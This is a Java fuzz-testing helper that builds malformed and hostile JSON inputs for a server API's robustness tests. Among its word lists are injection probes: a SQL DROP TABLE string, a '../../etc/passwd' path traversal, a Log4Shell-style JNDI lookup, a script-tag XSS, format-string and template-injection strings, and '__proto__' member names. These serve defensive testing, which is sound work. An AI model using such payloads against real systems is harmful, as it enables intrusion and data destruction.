package io.netloom.server.fuzz;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * What the fuzzer puts into valid bodies: values of every JSON type and of none, strings that are
 * huge, empty, full of control characters or exotic Unicode, numbers at and beyond every limit the
 * API has, deep nesting, raw text that is not JSON, and invalid UTF-8.
 */
final class HostileInputs {

    private static final List<String> NUMBERS = List.of("0", "-0", "1", "-1", "22", "80", "65535", "65536",
            "86399", "86400", "31536000", "31536001", "2147483647", "2147483648", "-2147483648", "-2147483649",
            "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e400", "-1e400", "1e-400",
            "1.0", "1.5", "0.1", "80.0", "1E2", "123456789012345678901234567890", "1" + "0".repeat(1200),
            "0." + "1".repeat(1200), "NaN", "Infinity", "-Infinity", "01", "+1", ".5", "1.", "0x10", "1_000");

    private static final List<String> LITERALS = List.of("true", "false", "null", "True", "FALSE", "nul", "t",
            "undefined");

    private static final List<String> WORDS = List.of("", " ", "All", "accept", "drop", "tcp", "udp", "icmp", "all",
            "netbird-ssh", "reusable", "one-off", "owner", "admin", "user", "100.64.0.1", "0.0.0.0/0", "::1",
            "\u202eevil", "\ufeffbom", "zero\u200bwidth", "e\u0301\u0301\u0301", "名前", "اسم", "😀🔥", "\ud800",
            "\udfff\ud800", "a\u0000b", "line\nbreak", "tab\there", "\u0007bell", "'; DROP TABLE domainevententry; --",
            "../../etc/passwd", "${jndi:ldap://192.0.2.1/a}", "%s%n%x", "<script>alert(1)</script>", "{{7*7}}",
            "\\", "\"", "null", "true", "5", "00000000-0000-0000-0000-000000000000",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");

    private static final List<String> NOT_JSON = List.of("\"unterminated", "'single'", "{", "[", "}", "]", ",", ":",
            "\"a\u0001b\"", "\"\\ud800\"", "\"\\u00\"", "\"\\x41\"", "\"\\uDFFF\\uD800\"", "/* comment */ 1", "--", "");

    private static final List<String> MEMBER_NAMES = List.of("id", "account_id", "accountId", "created_by", "peers",
            "groups", "rules", "name", "is_admin", "role", "__proto__", "constructor", "", " ", "name ", "NAME",
            "setup_key", "auto_groups", "resources", "sourceResource", "source_posture_checks", "ip", "\u0000");

    private static final List<byte[]> BAD_BYTES = List.of(new byte[] {(byte) 0xff}, new byte[] {(byte) 0x80},
            new byte[] {(byte) 0xc3}, new byte[] {(byte) 0xc0, (byte) 0xaf}, new byte[] {(byte) 0xed, (byte) 0xa0,
                    (byte) 0x80}, new byte[] {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
            new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf}, new byte[] {0}, new byte[] {'"'}, new byte[] {'\\'},
            new byte[] {'}'}, new byte[] {','});

    private HostileInputs() {
    }

    static Arbitrary<FuzzInput> inputs() {
        return Combinators.combine(mutation().list().ofMinSize(1).ofMaxSize(4), byteMutation()).as(FuzzInput::new);
    }

    static Arbitrary<Mutation> mutation() {
        Arbitrary<Mutation.Kind> kinds = Arbitraries.frequencyOf(w(6, Arbitraries.just(Mutation.Kind.SAME_TYPE)),
                w(6, Arbitraries.of(Mutation.Kind.class)));
        return Combinators.combine(kinds, Arbitraries.integers().between(0, 10_000),
                value(), memberName(), string(), Arbitraries.of(NUMBERS)).as(Mutation::new);
    }

    static Arbitrary<ByteMutation> byteMutation() {
        Arbitrary<ByteMutation> changed = Combinators.combine(
                Arbitraries.of(ByteMutation.Kind.TRUNCATE, ByteMutation.Kind.INSERT, ByteMutation.Kind.OVERWRITE),
                Arbitraries.integers().between(0, 100_000),
                Arbitraries.frequencyOf(w(3, Arbitraries.of(BAD_BYTES)),
                                w(1, Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(8))))
                .as(ByteMutation::new);
        return Arbitraries.frequencyOf(w(5, Arbitraries.just(ByteMutation.NONE)), w(1, changed));
    }

    static Arbitrary<Json> value() {
        return Arbitraries.frequencyOf(
                w(6, string().map(Json.Str::new)),
                w(4, number()),
                w(2, Arbitraries.of(LITERALS).map(Json.Raw::new)),
                w(2, Arbitraries.of(NOT_JSON).map(Json.Raw::new)),
                w(2, Arbitraries.of(new Json.Obj(List.of()), new Json.Arr(List.of()))),
                w(2, nesting()),
                w(2, Arbitraries.lazy(HostileInputs::value).list().ofMaxSize(4).map(Json.Arr::new)),
                w(1, Combinators.combine(memberName(), Arbitraries.lazy(HostileInputs::value))
                        .as((name, value) -> Json.object(name, value))),
                w(1, longArray()));
    }

    private static Arbitrary<String> string() {
        return Arbitraries.frequencyOf(
                w(4, Arbitraries.of(WORDS)),
                w(3, Arbitraries.strings().all().ofMaxLength(40)),
                w(2, Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(8)),
                w(2, Arbitraries.integers().between(250, 70_000).map("n"::repeat)),
                w(1, Arbitraries.integers().between(0, 3).map(HostileInputs::oversized)));
    }

    /** Strings around the 1 MiB body limit: just under (accepted or refused by content), over (413). */
    private static String oversized(int which) {
        int[] lengths = {1024 * 1024 - 600, 1024 * 1024 + 1, 2 * 1024 * 1024, 300_000};
        return "b".repeat(lengths[which]);
    }

    private static Arbitrary<Json> number() {
        return Arbitraries.frequencyOf(
                w(3, Arbitraries.of(NUMBERS)),
                w(1, Arbitraries.longs().map(String::valueOf)),
                w(1, Arbitraries.doubles().map(String::valueOf)))
                .map(Json.Raw::new);
    }

    private static Arbitrary<Json> nesting() {
        return Combinators.combine(Arbitraries.integers().between(2, 3000), Arbitraries.of(true, false))
                .as((depth, arrays) -> new Json.Raw(arrays ? "[".repeat(depth) + "]".repeat(depth)
                        : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)));
    }

    private static Arbitrary<Json> longArray() {
        return Arbitraries.integers().between(100, 50_000)
                .map(size -> new Json.Raw("[" + String.join(",", java.util.Collections.nCopies(size, "\"x\"")) + "]"));
    }

    /** A weighted choice for {@link Arbitraries#frequencyOf}, widened to the common type. */
    private static <T> Tuple.Tuple2<Integer, Arbitrary<? extends T>> w(int weight, Arbitrary<? extends T> arbitrary) {
        return Tuple.of(weight, arbitrary);
    }

    private static Arbitrary<String> memberName() {
        return Arbitraries.frequencyOf(w(3, Arbitraries.of(MEMBER_NAMES)),
                w(1, Arbitraries.strings().all().ofMaxLength(20)));
    }
}
